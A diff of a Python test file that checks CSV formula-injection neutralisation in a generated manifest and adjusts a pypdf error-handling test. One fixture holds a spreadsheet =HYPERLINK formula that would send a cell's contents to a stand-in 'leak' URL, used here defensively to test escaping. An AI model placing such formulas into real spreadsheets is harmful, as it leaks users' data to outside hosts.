@@ -262,7 +262,7 @@ def test_a_fifo_as_content_never_blocks(project: Path) -> None:
 
 def test_formula_leaders_are_neutralised_in_the_manifest(project: Path) -> None:
     people = ('name,organisation,email\n'
-              '"=HYPERLINK(""http://127.0.0.1:9/leak?x=""&A1,""click"")",+Org,@me@example.org\n'
+              '"=HYPERLINK(""http://127.0.0.1:9/leak?x=""&A1,""click"")",@Org,+me@example.org\n'
               '-Minus,Plain,plain@example.org\n')
     (project / "content" / "packs").mkdir()
     (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
@@ -273,7 +273,7 @@ def test_formula_leaders_are_neutralised_in_the_manifest(project: Path) -> None:
     manifest = next((project / "out").rglob("manifest.csv"))
     rows = list(csv.reader(manifest.read_text(encoding="utf-8").splitlines()))
     assert rows[1][:3] == ["'=HYPERLINK(\"http://127.0.0.1:9/leak?x=\"&A1,\"click\")",
-                           "'+Org", "'@me@example.org"]
+                           "'@Org", "'+me@example.org"]
     assert rows[2][:3] == ["'-Minus", "Plain", "plain@example.org"]
     for row in rows[1:]:
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
@@ -545,14 +545,15 @@ def test_extract_streams_embedded_files_with_caps(
 
 def test_extract_handles_pypdf_limits(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """pypdf's own LimitReachedError (not a PdfReadError) is a message, not a traceback."""
-    import pypdf
     from pypdf.errors import LimitReachedError
+
+    from briefing.assemble import pdfio
 
     def limited(*args: object, **kwargs: object) -> None:
         raise LimitReachedError("Limit reached while decompressing")
 
     (tmp_path / "x.pdf").write_bytes(_archival({"content/a.yaml": b"a: 1\n"}))
-    monkeypatch.setattr(pypdf, "PdfReader", limited)
+    monkeypatch.setattr(pdfio, "open_pdf", limited)
     result = cli_run(tmp_path, "extract", "x.pdf", "--out", "out")
     assert_refused(result, "x.pdf: ", "is not a readable PDF: Limit reached")
     assert not (tmp_path / "out").exists()
